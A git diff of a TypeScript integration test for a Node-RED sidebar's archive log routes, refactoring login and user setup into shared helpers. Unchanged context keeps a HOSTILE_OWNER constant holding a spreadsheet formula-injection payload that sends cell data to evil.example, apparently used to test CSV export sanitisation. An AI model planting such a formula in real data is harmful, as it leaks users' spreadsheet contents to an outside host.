@@ -13,9 +13,15 @@ import { LOG_CSV_COLUMNS, parseCsv } from '../../lib/csv';
 import type { ArchiveItem, ItemKind } from '../../lib/items';
 import { Ledger } from '../../lib/ledger';
 import type { LogPage } from '../../lib/ledger/types';
-import { prepareUserDir, removeDir, startNodeRed, type NodeRedProcess } from '../support/node-red-process';
+import {
+  editorToken,
+  editorUsersSetting,
+  prepareUserDir,
+  removeDir,
+  startNodeRed,
+  type NodeRedProcess,
+} from '../support/node-red-process';
 
-const bcrypt = require('bcryptjs') as { hashSync(password: string, rounds: number): string };
 const WebSocket = require('ws') as typeof import('ws');
 
 const HOSTILE_OWNER = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")';
@@ -89,7 +95,6 @@ describe('archive log routes of the sidebar', { timeout: 120_000 }, () => {
     const ledgerFile = join(userDir, 'ledger-elsewhere', 'ledger.sqlite');
     mkdirSync(join(userDir, 'ledger-elsewhere'));
     fillLedger(ledgerFile);
-    const hash = bcrypt.hashSync('secret-pass', 8);
     prepareUserDir(
       userDir,
       [
@@ -106,10 +111,7 @@ describe('archive log routes of the sidebar', { timeout: 120_000 }, () => {
           wires: [[], []],
         },
       ],
-      `adminAuth: { type: 'credentials', users: [
-        { username: 'admin', password: '${hash}', permissions: '*' },
-        { username: 'viewer', password: '${hash}', permissions: 'read' },
-      ] },`,
+      editorUsersSetting(),
     );
     red = await startNodeRed({
       userDir,
@@ -122,28 +124,14 @@ describe('archive log routes of the sidebar', { timeout: 120_000 }, () => {
         RC_JWT: 'jwt',
       },
     });
-    for (const user of ['admin', 'viewer']) tokens[user] = await login(user);
+    for (const user of ['admin', 'viewer'] as const) tokens[user] = await login(user);
   });
   after(async () => {
     await red?.kill();
     if (userDir) removeDir(userDir);
   });
 
-  async function login(username: string): Promise<string> {
-    const res = await fetch(`${red!.url}/auth/token`, {
-      method: 'POST',
-      headers: { 'Content-Type': 'application/json' },
-      body: JSON.stringify({
-        client_id: 'node-red-admin',
-        grant_type: 'password',
-        scope: username === 'admin' ? '*' : 'read',
-        username,
-        password: 'secret-pass',
-      }),
-    });
-    assert.equal(res.status, 200, `${username} logs in`);
-    return ((await res.json()) as { access_token: string }).access_token;
-  }
+  const login = (username: 'admin' | 'viewer') => editorToken(red!.url, username);
 
   /** null: no login at all. */
   type User = 'admin' | 'viewer' | null;
